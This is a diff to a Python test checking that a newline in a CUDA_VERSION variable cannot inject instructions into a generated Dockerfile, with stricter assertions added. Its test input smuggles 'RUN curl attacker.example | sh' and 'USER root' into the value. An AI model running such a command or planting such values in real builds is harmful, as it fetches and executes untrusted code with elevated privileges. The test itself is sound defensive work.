@@ -222,7 +222,10 @@ def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment
                "dockerfile", env={"CUDA_VERSION": "12.4.1\nRUN curl attacker.example | sh\r\nUSER root"})
     assert done.returncode in (0, 1), done.stderr
     lines = done.stdout.splitlines()
-    assert all(line.startswith("#") for line in lines[:-1]) and lines[-1].startswith("RUN python3 -m pip install")
+    instructions = [line for line in lines if not line.startswith("#")]
+    assert instructions[0].startswith("RUN python3 -m pip install")  # the only instructions are the product's own:
+    assert instructions[1].startswith("RUN printf ") and instructions[2].startswith("ENV PIP_CONSTRAINT=")  # the pin
+    assert len(instructions) == 3
     assert "12.4.1\\nRUN curl attacker.example | sh\\r\\nUSER root" in done.stdout
 
 
